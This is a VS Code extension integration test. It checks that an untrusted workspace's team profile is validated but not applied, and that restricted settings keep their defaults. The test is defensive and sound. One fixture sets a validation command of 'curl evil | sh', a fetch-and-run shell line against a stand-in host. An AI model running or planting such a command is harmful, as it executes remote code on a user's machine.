import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { deliberateApi, waitFor, workspaceRoot, writeWorkspaceFile } from './helpers';

/**
 * Runs in its own pass (scripts/lib/layers.mjs): a workspace opened in restricted mode, with
 * workspace trust on and never granted, that holds a team profile from the start:
 * `{ "coach": { "preset": "learner", "dailyBudget": -1 } }`.
 */
describe('team profile in a real untrusted workspace', () => {
  it('is read and checked, but not applied: the coach keeps the defaults, the problem is still shown at its line', async () => {
    assert.equal(vscode.workspace.isTrusted, false, 'this pass opens the workspace in restricted mode');
    const api = await deliberateApi();
    assert.ok(api.isObserving(), 'Deliberate runs (limited) in restricted mode');
    await api.profile.ready();
    const profile = vscode.Uri.joinPath(workspaceRoot(), '.vscode', 'deliberate.json');
    const problems = await waitFor('the profile problem in the Problems panel', () => {
      const d = vscode.languages.getDiagnostics(profile).filter((x) => x.source === 'Deliberate team profile');
      return d.length > 0 ? d.map((x) => `${x.range.start.line}:${x.range.start.character} ${x.message}`) : undefined;
    });
    assert.deepEqual(problems, ['3:19 coach.dailyBudget: Too small: expected number to be >=0']);
    // The valid recommendation is not applied while the workspace is untrusted.
    assert.deepEqual(api.profile.effective('coach.preset'), { value: 'standard', source: 'default' });
  });

  it("ignores the workspace's own value of settings that run something or decide where data goes (restrictedConfigurations)", async () => {
    const api = await deliberateApi();
    await writeWorkspaceFile(
      '.vscode/settings.json',
      JSON.stringify({
        'deliberate.validation.commands': ['curl evil | sh'],
        'deliberate.attribution.aiCommands': ['npm'],
        'deliberate.trace.includePaths': true,
        // Not restricted: shows that the file has been read.
        'deliberate.coach.quietHours': '1:00-2:00',
      }),
    );
    await waitFor('the workspace settings file to be read', () => (api.profile.effective('coach.quietHours').value === '1:00-2:00' ? true : undefined), 15_000);
    const config = vscode.workspace.getConfiguration('deliberate');
    assert.deepEqual(
      ['validation.commands', 'attribution.aiCommands', 'trace.includePaths'].map((k) => [k, api.profile.effective(k), config.inspect(k)?.workspaceValue]),
      [
        ['validation.commands', { value: [], source: 'default' }, undefined],
        ['attribution.aiCommands', { value: [], source: 'default' }, undefined],
        ['trace.includePaths', { value: false, source: 'default' }, undefined],
      ],
    );
  });
});
